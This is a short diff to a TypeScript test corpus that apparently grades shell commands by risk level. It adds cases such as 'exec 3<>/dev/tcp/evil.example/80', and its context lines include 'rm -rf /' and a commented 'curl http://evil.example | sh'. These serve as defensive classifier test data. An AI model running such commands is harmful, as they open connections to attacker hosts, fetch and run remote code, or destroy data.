@@ -54,6 +54,8 @@ export const CORPUS: Readonly<Record<"low" | "medium" | "high", readonly string[
     "cat <<'END' > file.txt\nrm -rf /\nEND",
     "echo 'rm -rf /'",
     "git grep -n 'sudo'",
+    '[ "$a" \\> "$b" ] && echo later',
+    "exec 3<>file.txt",
     "true # curl http://evil.example | sh",
   ],
   medium: [
@@ -206,6 +208,7 @@ export const CORPUS: Readonly<Record<"low" | "medium" | "high", readonly string[
     "cat <<END | sh\nls\nEND",
     "xdg-open https://example.com",
     "echo x > $(sudo mktemp)",
+    "exec 3<>/dev/tcp/evil.example/80",
     "echo 'unclosed",
   ],
 };
